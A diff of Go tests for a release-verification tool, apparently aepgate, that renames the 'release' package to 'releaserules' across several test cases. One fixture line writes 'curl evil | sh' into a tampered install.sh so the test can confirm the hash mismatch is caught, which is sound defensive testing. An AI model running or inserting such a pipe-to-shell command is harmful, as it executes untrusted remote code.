@@ -13,7 +13,7 @@ import (
 	"github.com/aepgate/aepgate/checks"
 	"github.com/aepgate/aepgate/internal/gh"
 	"github.com/aepgate/aepgate/internal/testkit/ghfake"
-	"github.com/aepgate/aepgate/protocol/release"
+	"github.com/aepgate/aepgate/protocol/releaserules"
 )
 
 // install installs an App on the fixture's repository and returns its
@@ -53,12 +53,12 @@ func TestVerifyReleaseClosure(t *testing.T) {
 		{"tampered asset", func(fx *releaseFixture) { fx.rel.ReplaceAssetBytes("install.sh", []byte("curl evil | sh\n")) },
 			[]string{"github-release-asset-hash-mismatch:install.sh"}, nil},
 		{"main moved, same manifest", func(fx *releaseFixture) { fx.repo.Commit("main", "later", map[string]string{"x": "y"}) },
-			[]string{release.TokenTagNotMain}, nil},
+			[]string{releaserules.TokenTagNotMain}, nil},
 		{"main moved, manifest changed there", changedManifest,
-			[]string{release.TokenCoverage, release.TokenTagNotMain}, nil},
+			[]string{releaserules.TokenCoverage, releaserules.TokenTagNotMain}, nil},
 		{"main moved, manifest gone there", func(fx *releaseFixture) {
 			fx.repo.Commit("main", "drop", map[string]string{"manifest.sha256": ghfake.Deleted})
-		}, []string{release.TokenLocalManifest, release.TokenTagNotMain}, nil},
+		}, []string{releaserules.TokenLocalManifest, releaserules.TokenTagNotMain}, nil},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -94,7 +94,7 @@ func TestVerifyReleaseClosureStandIn(t *testing.T) {
 		t.Fatal(err)
 	}
 	for _, r := range got.Result.Refusals {
-		if r.Token == release.TokenLocalManifest && !strings.Contains(r.Expected, "on the default branch head") {
+		if r.Token == releaserules.TokenLocalManifest && !strings.Contains(r.Expected, "on the default branch head") {
 			t.Errorf("expected %q", r.Expected)
 		}
 	}
@@ -113,7 +113,7 @@ func TestVerifyReleaseClosureLightweightTag(t *testing.T) {
 	if got.Commit != fx.commit || got.Result.Closed {
 		t.Errorf("commit %q closed %v, want %q and not closed", got.Commit, got.Result.Closed, fx.commit)
 	}
-	if !strings.Contains(strings.Join(got.Result.Errors, " "), release.TokenTagUnreadable) {
+	if !strings.Contains(strings.Join(got.Result.Errors, " "), releaserules.TokenTagUnreadable) {
 		t.Errorf("errors %v", got.Result.Errors)
 	}
 }
@@ -152,7 +152,7 @@ func TestVerifyReleaseClosureBadTagAsksNothing(t *testing.T) {
 	if err != nil || got.Commit != "" || fx.f.Stats().Total != 0 {
 		t.Errorf("commit %q, err %v, %d requests; want none", got.Commit, err, fx.f.Stats().Total)
 	}
-	if diff := cmp.Diff([]string{release.TokenVersionInvalid}, got.Result.Errors); diff != "" {
+	if diff := cmp.Diff([]string{releaserules.TokenVersionInvalid}, got.Result.Errors); diff != "" {
 		t.Errorf("(-want +got):\n%s", diff)
 	}
 }
@@ -177,7 +177,7 @@ func TestAppCheckRuns(t *testing.T) {
 
 func releaseRun(sha string) checks.Run {
 	tag := relTag
-	return checks.AppReleaseRun(sha, release.Result{Closed: true, Tag: tag, Repository: "octo/demo", TagSha: &sha, RemoteMainSha: &sha}, checks.ReleaseInputs{Manifest: "manifest.sha256"})
+	return checks.AppReleaseRun(sha, releaserules.Result{Closed: true, Tag: tag, Repository: "octo/demo", TagSha: &sha, RemoteMainSha: &sha}, checks.ReleaseInputs{Manifest: "manifest.sha256"})
 }
 
 // repoWrites are the writes to repositories (minting the installation's
